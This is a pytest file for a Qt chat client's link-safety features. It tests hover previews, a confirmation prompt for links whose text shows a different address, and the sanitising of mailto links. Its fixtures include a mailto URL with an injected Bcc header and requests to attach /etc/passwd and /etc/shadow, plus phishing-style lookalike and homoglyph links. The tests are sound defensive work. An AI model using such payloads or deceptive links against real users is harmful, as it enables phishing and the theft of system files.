"""Links in an answer, through the real window: the real target on hover, a question
before a link whose text shows another address, mailto links cut to what shows.

``[https://accounts.google.com/](http://elsewhere.example/…)`` displayed Google's
address, showed nothing on hover and opened the hidden target on one click. The
system's URL handlers are replaced for the test with Qt's own mechanism
(``QDesktopServices.setUrlHandler``), so every open is recorded and none leaves.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from PySide6.QtCore import QEvent, QObject, QPoint, Qt, QUrl, Slot
from PySide6.QtGui import QDesktopServices, QHelpEvent
from PySide6.QtWidgets import QApplication, QMessageBox, QToolTip
from pytestqt.qtbot import QtBot

from rill.core.links import deceptive_host, safe_mailto, shown_host
from rill.gui.window.main_window import MainWindow
from tests.fakes.gemini_scenarios import stream
from tests.fakes.gemini_server import FakeGemini
from tests.gui.support.chat_view_support import click_anchor
from tests.gui.support.history_support import MakeWindow

DECEPTIVE = "http://elsewhere.example/login"
HONEST = "https://example.com/docs"
SAME_SITE = "https://www.example.com/"
MAILTO = (
    "mailto:help@example.com?subject=Hi%0D%0ABcc:%20x@evil.example"
    "&bcc=spy@evil.example&attach=/etc/passwd&body=Hello"
)
ANSWER = (
    f"Sign in at [https://accounts.google.com/]({DECEPTIVE}) first.\n\n"
    f"Then read [the docs]({HONEST}) on [example.com]({SAME_SITE}), "
    f"or [write to us]({MAILTO})."
)


class Opened(QObject):
    """Stands in for the browser and the mail app (QDesktopServices.setUrlHandler)."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    @Slot(QUrl)
    def handle(self, url: QUrl) -> None:
        self.urls.append(url.toString(QUrl.ComponentFormattingOption.FullyEncoded))


@pytest.fixture
def opened() -> Iterator[Opened]:
    handler = Opened()
    for scheme in ("http", "https", "mailto"):
        QDesktopServices.setUrlHandler(scheme, handler, "handle")
    yield handler
    for scheme in ("http", "https", "mailto"):
        QDesktopServices.unsetUrlHandler(scheme)


def link_point(window: MainWindow, href: str) -> QPoint:
    point = window.view.surface.locate(href)
    assert point is not None, f"no link to {href}"
    return point


def answered(qtbot: QtBot, window: MainWindow, fake_gemini: FakeGemini) -> None:
    fake_gemini.push(stream([ANSWER[:40], ANSWER[40:]]))
    with qtbot.waitSignal(window.controller.answer_finished, timeout=10_000):
        window.controller.send("Where do I sign in?")
    window.view.settle()


def test_hovering_a_link_shows_its_real_target(
    qtbot: QtBot, history_window: MakeWindow, fake_gemini: FakeGemini, opened: Opened
) -> None:
    window = history_window()
    answered(qtbot, window, fake_gemini)
    viewport = window.view.surface.viewport()
    point = link_point(window, DECEPTIVE)
    qtbot.mouseMove(viewport, point)
    qtbot.waitUntil(lambda: window.status_line.currentMessage() == DECEPTIVE, timeout=2000)
    help_event = QHelpEvent(QEvent.Type.ToolTip, point, viewport.mapToGlobal(point))
    QApplication.sendEvent(viewport, help_event)
    assert QToolTip.isVisible() and QToolTip.text() == DECEPTIVE
    qtbot.mouseMove(viewport, QPoint(2, 2))  # off the link: the state comes back
    qtbot.waitUntil(lambda: window.status_line.currentMessage() == "", timeout=2000)
    qtbot.mouseMove(viewport, point)
    qtbot.waitUntil(lambda: window.status_line.currentMessage() == DECEPTIVE, timeout=2000)
    # Straight out of the chat pane (to the composer, or under a dialog): the same.
    QApplication.sendEvent(viewport, QEvent(QEvent.Type.Leave))
    assert window.status_line.currentMessage() == ""
    qtbot.mouseMove(viewport, point + QPoint(1, 0))  # pointing at it again shows it again
    qtbot.waitUntil(lambda: window.status_line.currentMessage() == DECEPTIVE, timeout=2000)
    assert opened.urls == []


def test_a_deceptive_link_asks_first_and_names_the_real_host(
    qtbot: QtBot, history_window: MakeWindow, fake_gemini: FakeGemini, opened: Opened
) -> None:
    window = history_window()
    answered(qtbot, window, fake_gemini)
    click_anchor(qtbot, window.view, DECEPTIVE)
    assert opened.urls == []  # asked, not opened
    box = window.view.links.question
    assert box is not None and box.isVisible()
    assert box.windowModality() == Qt.WindowModality.WindowModal  # open(), no nested loop
    assert "accounts.google.com" in box.text() and "opens elsewhere.example" in box.text()
    cancel = box.button(QMessageBox.StandardButton.Cancel)
    assert box.defaultButton() is cancel
    cancel.click()
    qtbot.waitUntil(lambda: window.view.links.question is None, timeout=2000)
    assert opened.urls == []
    click_anchor(qtbot, window.view, DECEPTIVE)
    box = window.view.links.question
    assert box is not None
    (go,) = [b for b in box.buttons() if b.text() == "Open elsewhere.example"]
    go.click()
    assert opened.urls == [DECEPTIVE]


def test_honest_links_open_at_once_and_mailto_without_hidden_parts(
    qtbot: QtBot, history_window: MakeWindow, fake_gemini: FakeGemini, opened: Opened
) -> None:
    window = history_window()
    answered(qtbot, window, fake_gemini)
    click_anchor(qtbot, window.view, HONEST)
    click_anchor(qtbot, window.view, SAME_SITE)
    assert window.view.links.question is None
    click_anchor(qtbot, window.view, MAILTO)
    assert opened.urls == [
        HONEST,
        SAME_SITE,
        "mailto:help@example.com?subject=Hi%20Bcc%3A%20x%40evil.example&body=Hello",
    ]
    state = window.status_line.state_label.text()
    assert "line breaks in the subject" in state and "bcc" in state and "attach" in state


@pytest.mark.parametrize(
    ("text", "href", "real"),
    [
        ("https://accounts.google.com/", "http://elsewhere.example/x", "elsewhere.example"),
        ("paypal.com", "https://paypal.com.evil.example/", "paypal.com.evil.example"),
        ("accounts.google.com", "http://\u0430ccounts.google.com/", "xn--ccounts-1fg.google.com"),
        ("www.bank.example", "https://bank.example.evil/", "bank.example.evil"),
        ("report.zip", "https://evil.example/", "evil.example"),
        ("10.0.0.1", "http://10.0.0.2/", "10.0.0.2"),
        ("google.com", "https://accounts.google.com/", None),  # the same site
        ("accounts.google.com", "https://google.com/", None),
        ("https://bank.example/", "http://bank.example/login", None),
        ("the docs", "https://elsewhere.example/", None),  # not an address
        ("setup.py", "https://github.com/x/y/blob/main/setup.py", None),  # a file name
        ("v1.2", "https://example.com/", None),
    ],
)
def test_which_links_are_deceptive(text: str, href: str, real: str | None) -> None:
    assert deceptive_host(text, href) == real


def test_mailto_keeps_address_subject_and_a_short_body() -> None:
    assert safe_mailto("mailto:a@b.example") == ("mailto:a@b.example", ())
    url, left_out = safe_mailto("mailto:a@b.example?body=" + "x" * 5000 + "&cc=c@d&subject=S")
    assert url == "mailto:a@b.example?subject=S" and left_out == ("a 2,000+ character body", "cc")
    url, left_out = safe_mailto("mailto:a%0D%0ABcc:%20c@d?attachment=%2Fetc%2Fshadow")
    assert url == "mailto:aBcc%3A%20c@d"
    assert left_out == ("control characters in the address", "attachment")
    assert shown_host("a@b.example") == "b.example"
